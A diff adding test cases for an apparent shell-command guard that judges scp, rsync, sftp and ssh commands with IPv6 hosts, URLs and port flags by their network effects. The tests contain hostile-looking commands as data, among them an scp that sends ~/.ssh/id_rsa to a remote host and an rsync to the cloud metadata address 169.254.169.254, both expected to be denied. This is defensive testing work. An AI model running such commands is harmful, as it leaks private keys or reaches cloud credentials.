@@ -137,3 +137,36 @@ describe("awk -f more than once", () => {
     ]);
   });
 });
+
+describe("hosts that are IPv6 addresses or URLs", () => {
+  it("scp to [v6]:path sends", () => {
+    expect(judge("scp ~/.ssh/id_rsa [2001:db8::1]:")).toMatchObject({
+      verdict: "deny",
+      rule: "egress.secrets secret-file",
+    });
+    expect(effectLines("scp a.txt me@[2001:db8::1]:x")).toEqual([
+      "read a.txt: sends (sent)",
+      "class sends: scp sends a file's content out",
+      "send me@[2001:db8::1]: sends files to",
+    ]);
+  });
+
+  it("a port given apart leaves a URL as it is", () => {
+    expect(judge("rsync --port 8873 a rsync://169.254.169.254/m/")).toMatchObject({
+      verdict: "deny",
+      rule: "egress.deny_hosts <metadata>",
+    });
+    expect(effectLines("sftp -P2222 sftp://me@h.example/")).toContain(
+      "send sftp://me@h.example/: sends data to",
+    );
+    expect(effectLines("rsync --port 8873 a h.example:x")).toContain("send h.example:8873: sends files to");
+  });
+
+  it("sftp's -p is a flag, so the host stays", () => {
+    expect(effectLines("sftp -p h.example")).toEqual([
+      "send h.example: sends data to",
+      "class sends: sftp talks to another machine",
+    ]);
+    expect(effectLines("ssh -p 22 h.example")).toContain("send h.example:22: sends data to");
+  });
+});
